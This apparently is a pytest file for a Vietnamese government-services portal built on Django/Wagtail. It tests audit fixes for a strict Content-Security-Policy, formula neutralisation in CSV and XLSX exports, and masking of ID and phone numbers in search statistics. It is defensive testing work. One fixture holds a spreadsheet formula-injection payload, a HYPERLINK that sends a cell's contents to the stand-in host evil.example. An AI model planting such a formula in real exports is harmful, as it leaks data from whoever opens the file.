"""Content-Security-Policy on every page (finding 13), exports that cannot
carry a live formula (finding 15), search statistics without ID or phone
numbers and with a retention period (finding 16)."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
from datetime import timedelta
from pathlib import Path

import pytest
from django.conf import settings
from django.core.management import call_command
from django.test import override_settings
from django.urls import reverse
from django.utils import timezone

from tests.procedures.test_import import birth_row, catalogue, run  # noqa: F401 - fixture

ROOT = Path(__file__).resolve().parents[2]


def policy(header: str) -> dict[str, list[str]]:
    """A CSP header as {directive: [sources]}."""
    directives = {}
    for part in header.split(";"):
        words = part.split()
        if words:
            directives[words[0]] = words[1:]
    return directives


# ---------------------------------------------------------------- finding 13: Content-Security-Policy

PUBLIC_DIRECTIVES = {
    "default-src": ["'self'"],
    "object-src": ["'none'"],
    "base-uri": ["'none'"],
    "form-action": ["'self'"],
    "frame-ancestors": ["'none'"],
}


def assert_public_policy(header: str):
    directives = policy(header)
    for name, sources in PUBLIC_DIRECTIVES.items():
        assert directives.get(name) == sources, (name, header)
    for name in ("script-src", "style-src"):
        assert directives.get(name, ["'self'"]) == ["'self'"], (name, header)
    assert "unsafe-inline" not in header and "unsafe-eval" not in header


@pytest.mark.django_db
def test_finding_13_public_pages_send_a_strict_policy(client, home_page):
    for path in ("/", "/en/", reverse("search") + "?q=khai+sinh", "/accounts/login/", "/no-such-page/"):
        response = client.get(path)
        assert response.status_code in (200, 404), path
        assert "Content-Security-Policy" in response, path
        assert_public_policy(response["Content-Security-Policy"])
        assert "Content-Security-Policy-Report-Only" not in response


@pytest.mark.django_db
def test_finding_13_the_admin_and_its_previews_get_their_own_looser_policy(admin_client_with_second_factor,
                                                                          home_page):
    client = admin_client_with_second_factor
    for path in (reverse("wagtailadmin_home"), reverse("wagtailadmin_pages:edit", args=[home_page.pk]),
                 reverse("wagtailadmin_pages:view_draft", args=[home_page.pk])):
        response = client.get(path)
        assert response.status_code == 200, path
        directives = policy(response["Content-Security-Policy"])
        assert "'unsafe-inline'" in directives["script-src"] and "'unsafe-inline'" in directives["style-src"]
        assert directives["object-src"] == ["'none'"]
        assert directives["base-uri"] == ["'self'"]
        # Wagtail shows the page preview in a same-origin frame
        assert directives["frame-ancestors"] == ["'self'"]
    # and the admin's looseness stays in the admin, even for a signed-in editor
    assert_public_policy(client.get("/")["Content-Security-Policy"])


def test_finding_13_report_only_switch():
    env = {**os.environ, "PORTAL_CSP_REPORT_ONLY": "on", "DJANGO_SETTINGS_MODULE": "config.settings.test"}
    code = ("import json; from django.conf import settings as s; "
            "print(json.dumps([s.CONTENT_SECURITY_POLICY, s.CONTENT_SECURITY_POLICY_REPORT_ONLY]))")
    out = subprocess.run([sys.executable, "-c", code], env=env, cwd=ROOT, capture_output=True, text=True, check=True)
    enforced, report_only = json.loads(out.stdout)
    assert not enforced
    assert report_only["DIRECTIVES"]["frame-ancestors"] == ["'none'"]
    assert settings.CONTENT_SECURITY_POLICY and not getattr(settings, "CONTENT_SECURITY_POLICY_REPORT_ONLY", None)


@pytest.mark.django_db
def test_finding_13_report_only_applies_to_public_pages_and_admin(admin_client_with_second_factor, home_page):
    with override_settings(CONTENT_SECURITY_POLICY=None,
                           CONTENT_SECURITY_POLICY_REPORT_ONLY=settings.CONTENT_SECURITY_POLICY):
        client = admin_client_with_second_factor
        public = client.get("/")
        assert "Content-Security-Policy" not in public
        assert_public_policy(public["Content-Security-Policy-Report-Only"])
        admin = client.get(reverse("wagtailadmin_home"))
        assert "Content-Security-Policy" not in admin
        assert "'unsafe-inline'" in policy(admin["Content-Security-Policy-Report-Only"])["script-src"]


INLINE = {
    "inline script": re.compile(r"<script\b(?![^>]*\bsrc=)(?![^>]*type=\"application/(ld\+)?json\")[^>]*>", re.I),
    "style block": re.compile(r"<style\b", re.I),
    "style attribute": re.compile(r"\sstyle\s*=", re.I),
    "event handler attribute": re.compile(r"\son[a-z]+\s*=\s*[\"'{]", re.I),
    "javascript: URL": re.compile(r"javascript:", re.I),
}


def project_templates() -> list[Path]:
    found = []
    for path in sorted(ROOT.glob("**/templates/**/*.html")):
        relative = path.relative_to(ROOT)
        if relative.parts[0] in {".venv", "node_modules", "staticfiles"}:
            continue
        # e-mail bodies are read by mail programs, and the PDF layout by
        # xhtml2pdf (eforms.documents): neither is served under the site's CSP
        if "email" in path.name or path.name == "pdf.html":
            continue
        found.append(path)
    return found


def test_finding_13_no_template_relies_on_inline_script_or_style():
    templates = project_templates()
    assert len(templates) > 50
    offences = []
    for path in templates:
        text = path.read_text()
        for what, pattern in INLINE.items():
            for match in pattern.finditer(text):
                line = text.count("\n", 0, match.start()) + 1
                offences.append(f"{path.relative_to(ROOT)}:{line}: {what}")
    assert offences == []


# ---------------------------------------------------------------- finding 15: formulas in exports

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


@pytest.fixture
def evil_catalogue(catalogue):  # noqa: F811 - the imported fixture
    from procedures.models import ProcedurePage

    run([birth_row(name=EVIL, steps="-1+2 nộp hồ sơ\n@SUM(A1)", fee_note="+84 thu phí"),
         birth_row(code="2.000488", name="Cấp Phiếu lý lịch tư pháp", level="3", co_agency_codes="",
                   applicants="'= trích dẫn", legal_basis="")])
    assert ProcedurePage.objects.get(code="1.001193").title == EVIL
    return catalogue


def test_finding_15_safe_cell():
    from core.exports import safe_cell, unquote_cell

    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"):
        assert safe_cell(text) == "'" + text
        assert unquote_cell(safe_cell(text)) == text
    for value in ("Đăng ký khai sinh", "1.001193", "", "'quoted", "a=b", 5, -3, None):
        assert safe_cell(value) == value
    for text in ("'=1", "''-1", "'", "''"):
        assert unquote_cell(safe_cell(text)) == text


@pytest.mark.django_db
def test_finding_15_catalogue_csv_export_neutralises_formulas(evil_catalogue):
    from procedures.exporting import write_csv

    buffer = io.StringIO()
    write_csv(buffer)
    rows = {row[0]: row for row in csv.reader(io.StringIO(buffer.getvalue().lstrip("\ufeff")))}
    header = rows["code"]
    birth = dict(zip(header, rows["1.001193"], strict=True))
    assert birth["name"] == "'" + EVIL
    assert birth["steps"] == "'-1+2 nộp hồ sơ\n@SUM(A1)"
    assert birth["fee_note"] == "'+84 thu phí"
    assert birth["code"] == "1.001193" and birth["level"] == "4"


@pytest.mark.django_db
def test_finding_15_catalogue_xlsx_export_neutralises_formulas(evil_catalogue, admin_client_with_second_factor):
    from openpyxl import load_workbook

    response = admin_client_with_second_factor.get(reverse("procedures_export", args=["xlsx"]))
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    header = [c.value for c in sheet[1]]
    cells = {header[i]: cell for i, cell in enumerate(sheet[2])}
    assert cells["code"].value == "1.001193"
    assert cells["name"].value == "'" + EVIL and cells["name"].data_type == "s"
    assert cells["fee_note"].value == "'+84 thu phí"


@pytest.mark.django_db
def test_finding_15_ministry_tables_neutralise_formulas(evil_catalogue):
    from django.utils import timezone
    from openpyxl import load_workbook

    from procedures.ministry_tables import roadmap_workbook
    from reports.ministry import ministry_workbook

    for workbook in (roadmap_workbook(), ministry_workbook(timezone.localdate().year)):
        book = load_workbook(io.BytesIO(workbook))
        values = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
                  if cell.value is not None]
        assert not [c for c in values if c.data_type == "f"]
        assert not [c for c in values if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@"))]
        assert "'" + EVIL in [c.value for c in values]


@pytest.mark.django_db
@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_finding_15_neutralised_export_still_imports_as_the_identity(evil_catalogue, tmp_path, suffix):
    from procedures.models import ProcedurePage

    before = sorted(ProcedurePage.objects.values_list("code", "title", "steps", "fee_note", "applicants"))
    path = tmp_path / f"export.{suffix}"
    call_command("export_procedures", str(path), stdout=io.StringIO())
    with path.open("rb") as stream:
        from procedures.importing.reading import _rows_from_csv, _rows_from_xlsx

        cells = [c for row in (_rows_from_xlsx if suffix == "xlsx" else _rows_from_csv)(stream) for c in row]
    assert "'" + EVIL in cells and EVIL not in cells
    out = io.StringIO()
    call_command("import_procedures", str(path), stdout=out)
    assert "created=0 updated=0 unchanged=2 refused=0" in out.getvalue()
    ProcedurePage.objects.all().delete()
    call_command("import_procedures", str(path), stdout=io.StringIO())
    after = sorted(ProcedurePage.objects.values_list("code", "title", "steps", "fee_note", "applicants"))
    assert after == before


# ---------------------------------------------------------------- finding 16: search statistics

PERSONAL = [
    ("tra cứu hồ sơ 079123456789", "079123456789"),  # citizen ID (CCCD)
    ("cmnd 241234567", "241234567"),  # old 9-digit ID card
    ("0912345678 đăng ký", "0912345678"),
    ("sdt 0912 345 678", "0912 345 678"),
    ("liên hệ 0912.345.678", "0912.345.678"),
    ("+84 912 345 678 khai sinh", "912 345 678"),
    ("cccd:079-123-456-789", "079-123-456"),
]


@pytest.mark.django_db
def test_finding_16_id_and_phone_numbers_are_masked_before_counting(client, home_page):
    from search import stats
    from search.models import SearchQueryStat

    stats.discard()
    for query, _digits in PERSONAL:
        assert client.get(reverse("search"), {"q": query}).status_code == 200
    for code in ("1.001193", "2.000123.000.00.00.H30", "thủ tục 1.001193 lệ phí 200000"):
        client.get(reverse("search"), {"q": code})
    stats.flush()
    stored = list(SearchQueryStat.objects.values_list("query", "example"))
    flat = " | ".join(f"{q} / {e}" for q, e in stored)
    for _query, digits in PERSONAL:
        assert digits not in flat and digits.replace(" ", "") not in flat.replace(" ", "")
    examples = {e for _q, e in stored}
    assert "tra cứu hồ sơ [số]" in examples and "sdt [số]" in examples
    # procedure codes and ordinary numbers stay as typed
    assert {"1.001193", "2.000123.000.00.00.H30", "thủ tục 1.001193 lệ phí 200000"} <= examples


def test_finding_16_masking_rules():
    from search.stats import mask_numbers

    assert mask_numbers("1.001193 12") == "1.001193 12"
    assert mask_numbers("mã 000.00.00.H30-261122-0001") == "mã 000.00.00.H30-261122-0001"
    assert mask_numbers("năm 2025") == "năm 2025"
    assert mask_numbers("số 84912345678") == "số [số]"
    assert mask_numbers("079123456789") == "[số]"
    assert mask_numbers("a0912345678b") == "a[số]b"


@pytest.mark.django_db
def test_finding_16_statistics_older_than_the_retention_are_deleted(settings):
    from search.models import SearchQueryStat

    settings.PORTAL_SEARCH_STATS_RETENTION_DAYS = 30
    today = timezone.localdate()
    for age in (0, 29, 30, 31, 400):
        SearchQueryStat.objects.create(day=today - timedelta(days=age), language="vi", query=f"q{age}",
                                       example=f"q{age}", searches=1)
    call_command("flush_search_stats", stdout=io.StringIO())
    assert sorted(SearchQueryStat.objects.values_list("query", flat=True)) == ["q0", "q29"]
    assert settings.PORTAL_SEARCH_STATS_RETENTION_DAYS == 30


def test_finding_13_inline_barcode_and_qr_svgs_carry_no_style_attributes():
    from eforms.record import barcode_svg, qr_svg

    for svg in (barcode_svg("000.00.10.H30-261201-0001"), qr_svg("https://dvc.example.vn/lookup/?code=1")):
        assert svg.startswith("<svg") and "<rect" in svg
        assert " style=" not in svg
        assert 'fill="rgb(0%,0%,0%)"' in svg
